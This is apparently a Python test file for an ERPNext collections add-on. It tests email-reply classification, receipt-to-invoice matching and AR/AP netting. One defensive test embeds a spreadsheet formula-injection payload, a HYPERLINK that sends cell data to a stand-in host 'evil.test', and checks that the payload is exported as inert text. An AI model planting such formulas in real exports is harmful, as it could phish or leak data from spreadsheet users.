"""The collections inbox and cash application on a real site: replies become decisions, receipts find
their invoices and are allocated through ERPNext's own reconciliation, AR/AP netting drafts an entry."""

import datetime as dt

import frappe
from frappe.utils import add_days, add_months, flt, getdate, now_datetime, today

from erpnext.accounts.doctype.payment_entry.payment_entry import get_payment_entry

from optimar_erp.cash.matching import allocate_suggestion, suggestions
from optimar_erp.cash.netting import create_netting_entry, netting
from optimar_erp.inbox.replies import accept, dismiss, process
from optimar_erp.queries.customers import customers_of
from optimar_erp.setup.bootstrap import DEMO_ITEM
from optimar_erp.tests.factories import CollectionsTestCase, default_company, make_customer, make_invoice


def next_28th(day: dt.date) -> dt.date:
	return day.replace(day=28) if day.day < 28 else getdate(add_months(day.replace(day=28), 1))


def received(
	sender: str, text: str, reference: tuple[str, str] | None = None, subject="Re: Payment reminder"
):
	doc = frappe.get_doc(
		{
			"doctype": "Communication",
			"communication_type": "Communication",
			"communication_medium": "Email",
			"sent_or_received": "Received",
			"sender": sender,
			"subject": subject,
			"content": text,
			"communication_date": now_datetime(),
			"reference_doctype": reference[0] if reference else None,
			"reference_name": reference[1] if reference else None,
		}
	)
	doc.insert(ignore_permissions=True)
	return doc.name


class TestInbox(CollectionsTestCase):
	SETTINGS = {
		"inbox_enabled": 1,
		"inbox_auto_apply": 0,
		"inbox_review_below": 60,
		"inbox_auto_apply_above": 85,
	}

	def setUp(self):
		self.email = f"ap-{frappe.generate_hash(length=6)}@customer.test"
		self.customer = make_customer(f"Inbox {frappe.generate_hash(length=6)}", self.email)
		self.invoice = make_invoice(self.customer, 50_000, due_in_days=-5, posting_days_ago=35)

	def test_reply_to_a_reminder_becomes_a_draft_promise_on_the_right_invoice(self):
		name = received(
			self.email, "<p>Hi, we will pay 45,000 on the 28th.</p>", ("Sales Invoice", self.invoice)
		)
		item = frappe.get_doc("Collections Inbox Item", process(name))
		self.assertEqual(item.intent, "Promise to Pay")
		self.assertEqual(item.status, "Needs Review")
		self.assertEqual(item.suggested_action, "Draft Promise")
		self.assertEqual(item.customer, self.customer)
		self.assertEqual(item.sales_invoice, self.invoice)
		self.assertEqual(flt(item.amount), 45_000)
		self.assertEqual(getdate(item.promised_date), next_28th(getdate(today())))
		self.assertEqual(process(name), item.name)  # idempotent
		promise = accept(item.name)
		ptp = frappe.get_doc("Promise To Pay", promise)
		self.assertEqual((ptp.source, flt(ptp.promised_amount)), ("Inbox", 45_000))
		self.assertEqual(ptp.invoices[0].sales_invoice, self.invoice)
		self.assertEqual(frappe.db.get_value("Sales Invoice", self.invoice, "collection_state"), "Promised")
		self.assertEqual(frappe.db.get_value("Collections Inbox Item", item.name, "status"), "Accepted")
		with self.assertRaises(frappe.ValidationError):
			accept(item.name)  # handled once

	def test_reply_found_by_the_sender_address_and_a_dispute(self):
		name = received(
			self.email, f"The rate on {self.invoice} is wrong, we were quoted 10% less.", subject="Invoice"
		)
		item = frappe.get_doc("Collections Inbox Item", process(name))
		self.assertEqual(
			(item.intent, item.reason_code, item.sales_invoice), ("Dispute", "Pricing", self.invoice)
		)
		dispute = accept(item.name)
		self.assertEqual(frappe.db.get_value("Dispute", dispute, "source"), "Inbox")

	def test_unclear_reply_needs_a_person_and_can_be_dismissed(self):
		name = received(self.email, "ok")
		item = frappe.get_doc("Collections Inbox Item", process(name))
		self.assertEqual(item.status, "Needs Review")
		self.assertTrue(item.review_reasons)
		dismiss(item.name)
		self.assertEqual(frappe.db.get_value("Collections Inbox Item", item.name, "status"), "Dismissed")

	def test_mail_from_strangers_is_ignored(self):
		self.assertIsNone(process(received("someone@elsewhere.test", "we will pay tomorrow")))

	def test_out_of_office_snoozes_dunning_when_auto_apply_is_on(self):
		frappe.db.set_single_value("Collections Settings", "inbox_auto_apply", 1)
		frappe.clear_document_cache("Collections Settings", "Collections Settings")
		back = getdate(add_days(today(), 10))
		try:
			name = received(
				self.email, f"I am out of the office until {back.strftime('%d %B %Y')}.", subject="Auto-reply"
			)
			item = frappe.get_doc("Collections Inbox Item", process(name))
		finally:
			frappe.db.set_single_value("Collections Settings", "inbox_auto_apply", 0)
			frappe.clear_document_cache("Collections Settings", "Collections Settings")
		self.assertEqual((item.intent, item.status), ("Out of Office", "Auto-Applied"))
		self.assertEqual(
			getdate(frappe.db.get_value("Customer", self.customer, "collections_snoozed_until")), back
		)
		self.assertTrue(customers_of([self.customer]).iloc[0]["snoozed"])  # the dunning run waits

	def auto(self, sender: str, text: str, **kwargs) -> "frappe.model.document.Document":
		frappe.db.set_single_value("Collections Settings", "inbox_auto_apply", 1)
		frappe.clear_document_cache("Collections Settings", "Collections Settings")
		try:
			return frappe.get_doc("Collections Inbox Item", process(received(sender, text, **kwargs)))
		finally:
			frappe.db.set_single_value("Collections Settings", "inbox_auto_apply", 0)
			frappe.clear_document_cache("Collections Settings", "Collections Settings")

	def test_out_of_office_replies_snooze_by_themselves_once_a_month_at_most(self):
		"""Before: an out-of-office reply, easy to forge, snoozed a customer for 60 days again and again."""
		back = getdate(add_days(today(), 10)).strftime("%d %B %Y")
		first = self.auto(self.email, f"I am out of the office until {back}.", subject="Auto-reply")
		second = self.auto(self.email, f"I am out of the office until {back}.", subject="Auto-reply 2")
		self.assertEqual(first.status, "Auto-Applied")
		self.assertEqual(second.status, "Needs Review")

	def test_documents_go_only_to_the_customers_addresses_on_file(self):
		"""Before: "send statement" mailed up to 20 PDFs to whoever the reply came from (a threaded reply
		from anyone on a forwarded reminder)."""
		outsider = f"someone-{frappe.generate_hash(length=6)}@elsewhere.test"
		item = self.auto(
			outsider,
			"Please send us a statement of account.",
			reference=("Sales Invoice", self.invoice),
			subject="Re: Payment reminder",
		)
		self.assertEqual(item.status, "Needs Review")
		self.assertFalse(frappe.db.exists("Email Queue Recipient", {"recipient": outsider}))
		with self.assertRaises(frappe.ValidationError):
			accept(item.name)
		self.assertFalse(frappe.db.exists("Email Queue Recipient", {"recipient": outsider}))

	def test_the_same_email_makes_one_inbox_item_even_when_two_jobs_process_it(self):
		name = received(self.email, "We will pay 50,000 on the 28th.")
		first = process(name)
		frappe.db.savepoint("second_job")
		with self.assertRaises(frappe.UniqueValidationError):
			frappe.get_doc(
				{"doctype": "Collections Inbox Item", "communication": name, "customer": self.customer}
			).insert(ignore_permissions=True)
		frappe.db.rollback(save_point="second_job")
		self.assertEqual(frappe.db.count("Collections Inbox Item", {"communication": name}), 1)
		self.assertEqual(process(name), first)

	def test_a_reply_written_as_a_formula_exports_as_text(self):
		"""A customer's reply is outside text: the Collections Inbox report's CSV and Excel exports carry
		it as text, never as a formula a spreadsheet would run when AR opens the file."""
		from frappe.desk.query_report import export_query

		formula = '=HYPERLINK("https://evil.test/pay?c="&A1,"Pay here")'
		item = process(received(self.email, formula + " We will pay on the 28th."))
		self.assertEqual(frappe.db.get_value("Collections Inbox Item", item, "status"), "Needs Review")
		exported = {}
		for file_format in ("CSV", "Excel"):
			frappe.local.form_dict = frappe._dict(
				report_name="Collections Inbox",
				file_format_type=file_format,
				filters=frappe.as_json({"customer": self.customer}),
				visible_idx="[0]",
				custom_columns="[]",
			)
			frappe.local.response = frappe._dict()
			try:
				export_query()
			finally:
				frappe.local.form_dict = frappe._dict()
			exported[file_format] = frappe.local.response.filecontent
		self.assertIn("'=HYPERLINK", exported["CSV"].decode())
		self.assertNotIn(',"=HYPERLINK', exported["CSV"].decode())
		from io import BytesIO

		from openpyxl import load_workbook

		cells = [c for row in load_workbook(BytesIO(exported["Excel"])).active.iter_rows() for c in row]
		replies = [c.value for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
		self.assertTrue(replies)
		self.assertTrue(all(v.startswith("'=") for v in replies), replies)
		self.assertFalse([c for c in cells if c.data_type == "f"], "no formula cells")


class TestCashApplication(CollectionsTestCase):
	def setUp(self):
		self.company = default_company()
		self.customer = make_customer(f"Cash {frappe.generate_hash(length=6)}")

	def _receipt(self, invoice: str, amount: float, remarks: str = "") -> str:
		pe = get_payment_entry("Sales Invoice", invoice)
		pe.references = []
		pe.paid_amount = pe.received_amount = amount
		pe.reference_no = frappe.generate_hash(length=8)
		pe.reference_date = today()
		pe.custom_remarks = 1  # keep our remarks: ERPNext writes its own otherwise
		pe.remarks = remarks or "Payment received"
		pe.insert(ignore_permissions=True)
		pe.submit()
		self.assertAlmostEqual(flt(pe.unallocated_amount), amount)
		return pe.name

	def test_a_receipt_of_two_invoices_is_matched_to_both_and_allocated(self):
		a = make_invoice(self.customer, 1234.56, due_in_days=-3)
		b = make_invoice(self.customer, 765.44, due_in_days=2)
		make_invoice(self.customer, 999.99, due_in_days=20)
		pe = self._receipt(a, 2000.00)
		found = suggestions(self.company)
		top = found[(found["receipt"] == pe) & (found["rank"] == 1)].iloc[0]
		self.assertEqual(sorted(top["invoices"]), sorted([a, b]))
		self.assertEqual(top["method"], "combination")
		allocate_suggestion(pe, list(top["invoices"]), [float(x) for x in top["allocations"]])
		self.assertEqual(frappe.db.get_value("Sales Invoice", a, "outstanding_amount"), 0)
		self.assertEqual(frappe.db.get_value("Sales Invoice", b, "outstanding_amount"), 0)
		self.assertEqual(frappe.db.get_value("Payment Entry", pe, "unallocated_amount"), 0)
		self.assertTrue(
			frappe.db.exists(
				"Collection Activity", {"reference_name": pe, "activity_type": "Cash Application"}
			)
		)

	def test_reference_in_the_remarks_wins(self):
		a = make_invoice(self.customer, 500, due_in_days=-1)
		b = make_invoice(self.customer, 500, due_in_days=-1)
		pe = self._receipt(a, 500, remarks=f"Settlement of {b}")
		top = suggestions(self.company).set_index("receipt").loc[[pe]]
		best = top[top["rank"] == 1].iloc[0]
		self.assertEqual(list(best["invoices"]), [b])
		self.assertGreaterEqual(best["confidence"], 0.9)

	def test_refuses_more_than_the_receipt_or_the_invoice(self):
		a = make_invoice(self.customer, 300, due_in_days=-1)
		pe = self._receipt(a, 200)
		with self.assertRaises(frappe.ValidationError):
			allocate_suggestion(pe, [a], [250])
		self.assertEqual(frappe.db.get_value("Sales Invoice", a, "outstanding_amount"), 300)


class TestNetting(CollectionsTestCase):
	def test_customer_that_is_also_a_supplier_gets_a_draft_netting_entry(self):
		company = default_company()
		name = f"Both Ways {frappe.generate_hash(length=6)}"
		customer = make_customer(name)
		supplier = frappe.get_doc(
			{
				"doctype": "Supplier",
				"supplier_name": name,
				"supplier_group": frappe.db.get_value("Supplier Group", {"is_group": 0}, "name"),
			}
		).insert(ignore_permissions=True)
		frappe.get_doc(
			{
				"doctype": "Party Link",
				"primary_role": "Customer",
				"primary_party": customer,
				"secondary_role": "Supplier",
				"secondary_party": supplier.name,
			}
		).insert(ignore_permissions=True)
		si = make_invoice(customer, 1000, due_in_days=-10)
		pi = frappe.get_doc(
			{
				"doctype": "Purchase Invoice",
				"company": company,
				"supplier": supplier.name,
				"posting_date": today(),
				"bill_no": frappe.generate_hash(length=6),
				"items": [{"item_code": DEMO_ITEM, "qty": 1, "rate": 600}],
			}
		)
		pi.insert(ignore_permissions=True)
		pi.submit()
		pair = netting(company).pairs.set_index("customer").loc[customer]
		self.assertEqual((pair["supplier"], pair["net_amount"]), (supplier.name, 600))
		je = frappe.get_doc("Journal Entry", create_netting_entry(company, customer, supplier.name))
		self.assertEqual(je.docstatus, 0)  # a person checks and submits it
		rows = {(r.reference_type, r.reference_name): r for r in je.accounts}
		self.assertEqual(flt(rows[("Sales Invoice", si)].credit_in_account_currency), 600)
		self.assertEqual(flt(rows[("Purchase Invoice", pi.name)].debit_in_account_currency), 600)
